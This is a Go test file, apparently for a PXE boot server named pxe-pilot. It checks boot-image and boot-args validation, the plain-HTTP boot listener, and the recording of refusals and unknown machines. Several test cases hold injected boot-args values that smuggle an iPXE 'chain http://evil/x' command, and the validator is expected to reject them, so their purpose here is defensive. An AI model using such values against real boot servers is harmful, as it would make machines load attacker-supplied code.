			want: hostFile + `: no boot-image, and --boot-dir has 2 images (pve, pve-8): say which one this machine installs with boot-image = "pve" in its host file, a profile or defaults.toml`},
		{name: "key_naming_no_image_is_error", host: "boot-image = \"pve-7\"\n" + goodHost, bootDir: oneImage,
			want: hostFile + `: boot-image: "pve-7" is not an image in --boot-dir; there are: pve`},
		{name: "key_not_a_string_is_error", host: "boot-image = [\"pve\"]\n" + goodHost,
			want: hostFile + `: boot-image: want the name of an image folder of --boot-dir, such as "pve-9.2", got`},

		// boot-args, pxe-pilot's too, never reach the answer.
		{name: "boot_args_accepted", host: `boot-args = "console=tty0 console=ttyS0,115200n8 nomodeset"` + "\n" + goodHost, bootDir: oneImage},
		{name: "boot_args_not_a_string", host: "boot-args = [\"console=ttyS0\"]\n" + goodHost,
			want: hostFile + `: boot-args: want the words to add to the installer's kernel line, such as "console=tty0 console=ttyS0,115200", got`},
		{name: "boot_args_with_a_setting", host: `boot-args = "console=${console}"` + "\n" + goodHost,
			want: hostFile + `: boot-args: "console=${console}" holds ${...}, which iPXE would expand`},
		{name: "boot_args_with_a_newline", host: `boot-args = "quiet\nchain http://evil/x"` + "\n" + goodHost,
			want: hostFile + `: boot-args: "quiet\nchain http://evil/x" holds a line break`},
		{name: "boot_args_ending_the_command", host: `boot-args = "quiet || chain http://evil/x"` + "\n" + goodHost,
			want: hostFile + `: boot-args: "quiet || chain http://evil/x" holds '|', which iPXE reads as part of its command line`},
		{name: "boot_args_with_quotes", host: `boot-args = 'a="b c"'` + "\n" + goodHost,
			want: hostFile + `: boot-args: "a=\"b c\"" holds '"'`},
		{name: "boot_args_not_ascii", host: `boot-args = "café"` + "\n" + goodHost,
			want: hostFile + `: boot-args: "café" holds byte 0xc3 at 3: write printable ASCII only`},
		{name: "boot_args_too_long", host: `boot-args = "` + strings.Repeat("x", 513) + `"` + "\n" + goodHost,
			want: hostFile + `: boot-args: "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"... is 513 bytes long; at most 512`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := writeTree(t, map[string]string{"defaults.toml": goodDefaults, hostFile: tc.host})
			lines := checkConfig(dir, checkOptions{release: newest, bootDir: tc.bootDir}).errorLines()
			switch {
			case tc.want == "" && len(lines) > 0:
				t.Errorf("validate said %q; want no error", lines)
			case tc.want != "" && (len(lines) != 1 || !strings.HasPrefix(lines[0], tc.want)):
				t.Errorf("validate said %q; want one line starting %q", lines, tc.want)
			}
		})
	}
}

// TestBootListener: serve --boot-listen's plain-HTTP handler serves
// /boot.ipxe and /boot/ alone, its scripts pointing at itself even where
// --public-url is https://, and refuses everything else with a 404.
func TestBootListener(t *testing.T) {
	s, _ := scriptServer(t, goodConfig(), nil, nil)
	s.track = &tracker{publicURL: "https://pxe.example.com:8443"}
	plain := s.bootOnly()
	get := func(method, path, body string) *httptest.ResponseRecorder {
		r := httptest.NewRequest(method, path, strings.NewReader(body))
		r.Host = "10.0.0.2:8080"
		rec := httptest.NewRecorder()
		plain.ServeHTTP(rec, r)
		return rec
	}
	if rec := get("GET", "/boot.ipxe?mac=aa:bb:cc:dd:ee:ff", ""); !strings.Contains(rec.Body.String(), "\nkernel http://10.0.0.2:8080/boot/pve/vmlinuz ") {
		t.Errorf("GET /boot.ipxe on the plain listener =\n%s\nwant the kernel from http://10.0.0.2:8080", rec.Body)
	}
	if rec := get("GET", "/boot/pve/vmlinuz", ""); rec.Code != 200 {
		t.Errorf("GET /boot/pve/vmlinuz on the plain listener = %d %q; want 200", rec.Code, rec.Body)
	}
	for _, path := range []string{"/answer", "/health", "/installed", "/first-boot/x", "/", "/bootx"} {
		rec := get("POST", path, installerBody("pve", "9.2", "aa:bb:cc:dd:ee:ff"))
		if rec.Code != 404 || !strings.Contains(rec.Body.String(), "serves only /boot.ipxe and /boot/") {
			t.Errorf("POST %s on the plain listener = %d %q; want 404 saying what it serves", path, rec.Code, rec.Body)
		}
	}
	// On serve's own listener, the script keeps --public-url.
	r := httptest.NewRequest("GET", "/boot.ipxe?mac=aa:bb:cc:dd:ee:ff", nil)
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, r)
	if !strings.Contains(rec.Body.String(), "\nkernel https://pxe.example.com:8443/boot/pve/vmlinuz ") {
		t.Errorf("GET /boot.ipxe on serve's listener =\n%s\nwant the kernel from --public-url", rec.Body)
	}
}

// TestBootScriptRecordsUnknownMachines: a machine no host file names that
// asks for its boot script is recorded, as one that asks /answer is, so
// that status lists it for the operator to name; render records nothing.
func TestBootScriptRecordsUnknownMachines(t *testing.T) {
	s, _ := scriptServer(t, goodConfig(), nil, []string{})
	if body := getScript(t, s, "mac=02:00:00:00:00:99&serial=SN-Q"); !strings.Contains(body, "create hosts/02-00-00-00-00-99.toml") {
		t.Fatalf("script of an unknown machine =\n%s", body)
	}
	st, err := readFleet(s.dir, s.track.state.dir, fleetOptions{now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	if len(st.Unknown) != 1 || !slices.Equal(st.Unknown[0].MACs, []string{"02:00:00:00:00:99"}) || st.Unknown[0].Serial != "SN-Q" {
		t.Errorf("status unknown = %+v; want the machine that asked for its boot script", st.Unknown)
	}
	var out bytes.Buffer
	if err := run([]string{"render", "--boot", "--config-dir", s.dir, "--boot-dir", s.bootDir, "--state-dir", s.track.state.dir, "--mac", "02:00:00:00:00:98"}, &out, io.Discard); err != nil {
		t.Fatal(err)
	}
	if st, _ := readFleet(s.dir, s.track.state.dir, fleetOptions{now: time.Now()}); len(st.Unknown) != 1 {
		t.Errorf("render --boot recorded an unknown machine: %+v", st.Unknown)
	}
}

// TestBootScriptKeepsRefusals: a machine whose host file names it and
// whose config refuses it gets a script that says why, and serve keeps the
// refusal, as /answer's, for status; not while the config dir is being
// deployed, and never for render.
func TestBootScriptKeepsRefusals(t *testing.T) {
	tests := []struct {
		name     string
		host     string
		settle   time.Duration
		wantCode int // of the refusal kept; 0 for none
	}{
		{"host_file_broken", brokenHost, 0, 500},
		{"answer_does_not_compose", "hostname = \"pve1\"\n", 0, 500},
		{"boot_image_not_there", "boot-image = \"pve-7\"\n" + goodHost, 0, 500},
		{"missing_profile_mid_deploy", "profiles = [\"gone\"]\n" + goodHost, time.Hour, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, _ := scriptServer(t, map[string]string{"defaults.toml": goodDefaults, hostFile: tc.host}, nil, []string{})
			withSettleTime(t, tc.settle)
			if err := run([]string{"render", "--boot", "--config-dir", s.dir, "--boot-dir", s.bootDir, "--state-dir", s.track.state.dir, "--mac", "aa:bb:cc:dd:ee:ff"}, io.Discard, io.Discard); err != nil {
				t.Fatal(err)
			}
			if rec, err := s.track.state.host("aa-bb-cc-dd-ee-ff"); err != nil || rec.LastRefusal != nil {
				t.Errorf("after render --boot: %+v, %v; want nothing recorded", rec.LastRefusal, err)
			}
			body := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff")
			if !strings.Contains(body, "\nsleep 5\nexit") {
				t.Fatalf("script =\n%s\nwant one that says why and exits", body)
			}
			rec, err := s.track.state.host("aa-bb-cc-dd-ee-ff")
			switch {
			case err != nil:
				t.Fatal(err)
			case tc.wantCode == 0 && rec.LastRefusal != nil:
				t.Errorf("refusal kept: %+v; want none while the config dir is being deployed", rec.LastRefusal)
			case tc.wantCode != 0 && (rec.LastRefusal == nil || rec.LastRefusal.Code != tc.wantCode || !strings.Contains(body, echoLines("pxe-pilot: "+rec.LastRefusal.Reason))):
				t.Errorf("refusal kept: %+v; want a %d with the line the script says:\n%s", rec.LastRefusal, tc.wantCode, body)
			case tc.wantCode != 0 && rec.HostFile != hostFile:
				t.Errorf("record = %+v; want it to name %s", rec, hostFile)
			}
		})
	}
}

// TestDefaultRefusalsMakeNoRecords: hosts/default.toml matches any MAC a
// request makes up, so while it is refused, /boot.ipxe and /answer (no
// token needed for either) keep its refusal only on a machine the state
// dir knows already, and make no state file for any other.
func TestDefaultRefusalsMakeNoRecords(t *testing.T) {
	const known = "02-00-00-00-00-01"
	twoImages := map[string]string{"pve-8/boot.ipxe": realBootScript, "pve-8/vmlinuz": "k", "pve-8/initrd.img": "i"}
	tests := []struct {
		name, defaults string
		moreImages     map[string]string
		routes         []string // /answer answers whatever the boot images
	}{
		{"default_toml_does_not_parse", brokenHost, nil, []string{"/boot.ipxe", "/answer"}},
		{"default_answer_does_not_compose", "hostname = \"pve1\"\n", nil, []string{"/boot.ipxe", "/answer"}},
		{"no_boot_image_among_two", goodHost, twoImages, []string{"/boot.ipxe"}},
	}
	for _, tc := range tests {
		for _, route := range tc.routes {
			t.Run(tc.name+"_"+strings.Trim(route, "/"), func(t *testing.T) {
				withSettleTime(t, 0)
				s, _ := scriptServer(t, map[string]string{"defaults.toml": goodDefaults, "hosts/default.toml": tc.defaults}, tc.moreImages, []string{})
				st := s.track.state
				if _, err := st.updateHost(known, func(r *hostRecord) {
					r.Match, r.HostFile, r.Answers, r.Pending = "default", "hosts/default.toml", 1, 1
				}); err != nil {
					t.Fatal(err)
				}
				ask := func(mac string) {
					t.Helper()
					if route == "/answer" {
						if rec := send(s, "POST", "/answer", strings.NewReader(installerBody("pve", "9.2", mac))); rec.Code != http.StatusInternalServerError {
							t.Fatalf("POST /answer for %s = %d %q; want 500", mac, rec.Code, rec.Body)
						}
					} else if body := getScript(t, s, "mac="+mac); !strings.Contains(body, "\nsleep 5\nexit") {
						t.Fatalf("script for %s =\n%s\nwant one that says why and exits", mac, body)
					}
				}
				for i := range 50 {
					ask(fmt.Sprintf("02:00:00:00:01:%02x", i))
				}
				for _, sub := range []string{"hosts", "unknown"} {
					names, _ := filepath.Glob(filepath.Join(st.dir, sub, "*.json"))
					want := map[string]int{"hosts": 1}[sub]
					if len(names) != want || st.hosts != 1 || len(st.unknown) != 0 {
						t.Errorf("after 50 made-up MACs asked %s: %s/ holds %d state files, hosts/ and unknown/ counted %d and %d; want %d", route, sub, len(names), st.hosts, len(st.unknown), want)
					}
				}
				ask("02:00:00:00:00:01")
				if r, err := st.host(known); err != nil || r.LastRefusal == nil || r.LastRefusal.Code != http.StatusInternalServerError || r.Answers != 1 {
					t.Errorf("record of the machine default.toml answered before = %+v (refusal %+v), %v; want its 500 kept", r, r.LastRefusal, err)
				}
			})
		}
	}
}
